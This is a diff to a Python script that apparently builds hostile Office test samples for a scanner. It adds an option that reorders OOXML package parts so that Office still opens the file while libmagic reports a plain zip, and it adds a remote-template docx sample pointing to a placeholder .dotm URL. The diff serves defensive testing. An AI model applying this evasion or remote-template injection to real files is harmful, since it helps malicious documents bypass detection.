@@ -399,11 +399,18 @@ def content_types(overrides, defaults=()):
             + body + "</Types>").encode()
 
 
-def package(main_part, main_type, parts, overrides=(), defaults=()):
+LABEL_INFO = (XML_HEADER + '<clbl:labelList xmlns:clbl="http://schemas.microsoft.com/office/2020/mipLabelMetadata"/>').encode()
+
+
+def package(main_part, main_type, parts, overrides=(), defaults=(), package_parts_last=False):
     """An OOXML package: [Content_Types].xml first (where libmagic looks), the package
-    relationships to `main_part`, then `parts` (name -> bytes)."""
+    relationships to `main_part`, then `parts` (name -> bytes). With `package_parts_last`, a
+    sensitivity label part (which Office writes) comes first and [Content_Types].xml and
+    _rels/.rels last: Office opens it just the same, libmagic calls it a plain zip."""
     members = [("[Content_Types].xml", content_types([("/" + main_part, main_type)] + list(overrides), defaults)),
                ("_rels/.rels", relationships(("rId1", REL + "officeDocument", main_part)))]
+    if package_parts_last:
+        return zip_bytes([("docMetadata/LabelInfo.xml", LABEL_INFO)] + list(parts.items()) + members)
     return zip_bytes(members + list(parts.items()))
 
 
@@ -424,12 +431,13 @@ def paragraph(text):
     return "<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % text
 
 
-def docx(body, document_rels=(), extra_parts=None, overrides=(), defaults=(), main_type=WORD_MAIN):
+def docx(body, document_rels=(), extra_parts=None, overrides=(), defaults=(), main_type=WORD_MAIN,
+         package_parts_last=False):
     parts = {"word/document.xml": word_document(body)}
     if document_rels:
         parts["word/_rels/document.xml.rels"] = relationships(*document_rels)
     parts.update(extra_parts or {})
-    return package("word/document.xml", main_type, parts, overrides, defaults)
+    return package("word/document.xml", main_type, parts, overrides, defaults, package_parts_last)
 
 
 def xlsx(workbook_rels, extra_parts=None, overrides=(), defaults=(), main_type=EXCEL_MAIN, sheet_data=""):
@@ -490,7 +498,7 @@ def xlsm_with_workbook_open():
                 defaults=[VBA_PROJECT_TYPE], main_type=EXCEL_MACRO_MAIN)
 
 
-def remote_template_docx():
+def remote_template_docx(package_parts_last=False):
     settings = (XML_HEADER + '<w:settings xmlns:w="%s" xmlns:r="%s"><w:attachedTemplate r:id="rId1"/></w:settings>'
                 % (W_NS, R_NS)).encode()
     return docx(paragraph("Quarterly figures, see template."),
@@ -499,7 +507,8 @@ def remote_template_docx():
                  "word/_rels/settings.xml.rels": relationships(
                      ("rId1", REL + "attachedTemplate", "http://example.invalid/t.dotm", "External"))},
                 [("/word/settings.xml",
-                  "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml")])
+                  "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml")],
+                package_parts_last=package_parts_last)
 
 
 def dde_docx():
@@ -561,6 +570,7 @@ def samples():
         "threats/office/invoice.docm": docm_with_auto_open(),
         "threats/office/report.xlsm": xlsm_with_workbook_open(),
         "threats/office/remote_template.docx": remote_template_docx(),
+        "threats/office/remote_template_reordered.docx": remote_template_docx(package_parts_last=True),
         "threats/office/dde.docx": dde_docx(),
         "threats/office/legacy_macro.doc": legacy_word_document(LEGACY_WORD_MODULES),
         "threats/office/macro_object.rtf": rtf_with_macro_object(),
